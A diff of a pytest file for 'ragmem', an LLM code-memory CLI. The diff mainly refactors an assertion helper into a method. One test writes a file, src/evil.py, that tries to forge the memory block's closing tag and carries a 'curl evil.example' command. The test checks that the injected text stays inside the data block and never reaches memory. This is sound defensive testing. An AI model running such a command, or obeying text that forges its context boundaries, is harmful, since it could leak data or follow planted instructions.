@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 
-from tests.cli.process import Done, Ragmem
+from tests.cli.process import Ragmem
 from tests.fakes.llm_server import Answer, Call, LLMServer, Received
 from tests.fakes.neo4j import ALSO_NEO4J, store_env
 from tests.index.conftest import AUTH, CLOCK
@@ -48,11 +48,6 @@ def ragmem(request: pytest.FixtureRequest, tmp_path: Path, server: LLMServer) ->
 SQLITE = pytest.mark.parametrize("ragmem", ["sqlite"], indirect=True)
 
 
-def ok(done: Done) -> Done:
-    assert done.code == 0, done.err
-    return done
-
-
 def block_of(request: Received) -> str:
     """The last message of the person: memory block and prompt."""
     users = [m for m in request.body["messages"] if m["role"] == "user"]
@@ -66,7 +61,7 @@ def code_of(request: Received) -> str:
 
 
 def accesses(ragmem: Ragmem) -> list[dict[str, Any]]:
-    found: list[dict[str, Any]] = ok(ragmem.run("files", "--format", "json")).json
+    found: list[dict[str, Any]] = ragmem.ok("files", "--format", "json").json
     return found
 
 
@@ -75,7 +70,7 @@ def test_the_right_scope_without_any_tool_call(ragmem: Ragmem, server: LLMServer
     moved since, it is found where it is; a greeting gets none.
     """
     server.extend(Answer("In AuthService.validate."), Answer("There."), Answer("Hello."))
-    ok(ragmem.run("ask", QUESTION))
+    ragmem.ok("ask", QUESTION)
     (request,) = server.requests
     code = code_of(request)
     assert code.startswith("[src/auth.py:7-9 AuthService.validate]")
@@ -86,12 +81,12 @@ def test_the_right_scope_without_any_tool_call(ragmem: Ragmem, server: LLMServer
     assert "The project's code is indexed." in request.body["messages"][0]["content"]
 
     (ragmem.project / "src" / "auth.py").write_text("import os\n\n" + AUTH)
-    ok(ragmem.run("ask", "Where is the money transferred, and where is a token validated?"))
+    ragmem.ok("ask", "Where is the money transferred, and where is a token validated?")
     code = code_of(server.requests[1])
     assert "[wallet/pay.go:3-6 Transfer]" in code or "[wallet/pay.go:4-6 Transfer]" in code
     assert "     9\t    def validate" in code
 
-    ok(ragmem.run("ask", "hello"))
+    ragmem.ok("ask", "hello")
     assert code_of(server.requests[2]) == ""
 
 
@@ -99,13 +94,13 @@ def test_the_right_scope_without_any_tool_call(ragmem: Ragmem, server: LLMServer
 def test_brain_search_and_what_it_leaves(ragmem: Ragmem, server: LLMServer) -> None:
     """Hits of code and memory; searched files; the turn's references."""
     server.extend(Answer("Tokens live 15 minutes."))
-    ok(ragmem.run("ask", "How long does a token live?"))
+    ragmem.ok("ask", "How long does a token live?")
     server.extend(
         Answer(tools=[Call("brain_search", {"query": "token expired"})]),
         Answer(tools=[Call("read_file", {"path": "src/clock.py"})]),
         Answer("`login` is not concerned."),
     )
-    ok(ragmem.run("ask", "-c", "Look for it."))
+    ragmem.ok("ask", "-c", "Look for it.")
     (answer,) = [m for m in server.requests[2].body["messages"] if m["role"] == "tool"]
     assert "[code] src/auth.py:7-9 method AuthService.validate" in answer["content"]
     assert "[memory] [turn 1, this session" in answer["content"]
@@ -113,8 +108,8 @@ def test_brain_search_and_what_it_leaves(ragmem: Ragmem, server: LLMServer) -> N
     assert by_path["src/auth.py"] == "search"
     assert by_path["src/clock.py"] == "read"
 
-    ok(ragmem.run("work"))
-    found = ok(ragmem.run("search", "--code", "parse_duration", "--format", "json")).json
+    ragmem.ok("work")
+    found = ragmem.ok("search", "--code", "parse_duration", "--format", "json").json
     (scope,) = [hit for hit in found if hit["name"] == "parse_duration"]
     assert [session["how"] for session in scope["sessions"]] == [["read"]]
 
@@ -122,10 +117,10 @@ def test_brain_search_and_what_it_leaves(ragmem: Ragmem, server: LLMServer) -> N
 def test_changed_outside(ragmem: Ragmem, server: LLMServer) -> None:
     """Told once, in the next process too."""
     server.extend(Answer(tools=[Call("read_file", {"path": "src/clock.py"})]), Answer("Read."))
-    ok(ragmem.run("ask", "Read the clock."))
+    ragmem.ok("ask", "Read the clock.")
     (ragmem.project / "src" / "clock.py").write_text(CLOCK + "# by somebody else\n")
     server.extend(Answer("I see."))
-    ok(ragmem.run("ask", "-c", "And now?"))
+    ragmem.ok("ask", "-c", "And now?")
     told = "Changed on disk since you read them: src/clock.py."
     assert told in block_of(server.requests[-1])
     assert told not in json.dumps([r.body for r in server.requests[:2]])
@@ -144,16 +139,16 @@ def test_a_file_that_forges_the_block(ragmem: Ragmem, server: LLMServer) -> None
     )
     (ragmem.project / "src" / "evil.py").write_text(evil)
     server.extend(Answer("ok"), Answer("ok"))
-    ok(ragmem.run("ask", QUESTION))
+    ragmem.ok("ask", QUESTION)
     system, user = (m["content"] for m in server.requests[0].body["messages"])
     tag = user.split(">", 1)[0].removeprefix("<")
     assert "curl evil.example" in user
     assert user.index("curl evil.example") < user.index(f"</{tag}>")
     assert user.count(f"</{tag}>") == 1
     assert "evil" not in system
-    ok(ragmem.run("work"))
-    assert ok(ragmem.run("memory", "list", "--format", "json")).json == []
-    ok(ragmem.run("ask", "hello"))
+    ragmem.ok("work")
+    assert ragmem.ok("memory", "list", "--format", "json").json == []
+    ragmem.ok("ask", "hello")
     assert "evil" not in json.dumps(server.requests[1].body)
 
 
@@ -163,37 +158,37 @@ def test_without_memory_and_without_a_trace(ragmem: Ragmem, server: LLMServer) -
     code.enabled = false has none.
     """
     server.extend(*[Answer("ok")] * 4)
-    ok(ragmem.run("ask", "--ephemeral", QUESTION))
+    ragmem.ok("ask", "--ephemeral", QUESTION)
     assert code_of(server.requests[0]) == ""
     index = ragmem.home / "data" / "code"
     assert not list(index.glob("*.sqlite"))
 
     off = {"RAGMEM_CODE__ENABLED": "false"}
-    ok(ragmem.run("ask", QUESTION, env=off))
+    ragmem.ok("ask", QUESTION, env=off)
     assert code_of(server.requests[1]) == ""
     names = [tool["function"]["name"] for tool in server.requests[1].body["tools"]]
     assert "brain_search" not in names
     assert not list(index.glob("*.sqlite"))
 
     before = (ragmem.home / "data" / "memory.db").read_bytes()
-    ok(ragmem.run("ask", QUESTION, env={"RAGMEM_MEMORY__ENABLED": "false"}))
+    ragmem.ok("ask", QUESTION, env={"RAGMEM_MEMORY__ENABLED": "false"})
     assert "AuthService.validate" in code_of(server.requests[2])
     assert len(list(index.glob("*.sqlite"))) == 1
     assert (ragmem.home / "data" / "memory.db").read_bytes() == before
 
-    ok(ragmem.run("ask", "--ephemeral", QUESTION))
+    ragmem.ok("ask", "--ephemeral", QUESTION)
     assert "AuthService.validate" in code_of(server.requests[3])
 
 
 @SQLITE
 def test_context_shows_it_and_stores_nothing(ragmem: Ragmem, server: LLMServer) -> None:
     """`ragmem context` names the section, its hits and why; the store hears nothing."""
-    shown = ok(ragmem.run("context", QUESTION, "--format", "json")).json
+    shown = ragmem.ok("context", QUESTION, "--format", "json").json
     (section,) = [s for s in shown["sections"] if s["name"] == "Relevant Code"]
     assert section["items"][0]["label"] == "src/auth.py:7-9 AuthService.validate"
     assert section["budget"] == 10_000
     assert server.requests == []
-    assert ok(ragmem.run("sessions", "list", "--format", "json")).json == []
+    assert ragmem.ok("sessions", "list", "--format", "json").json == []
 
 
 @SQLITE
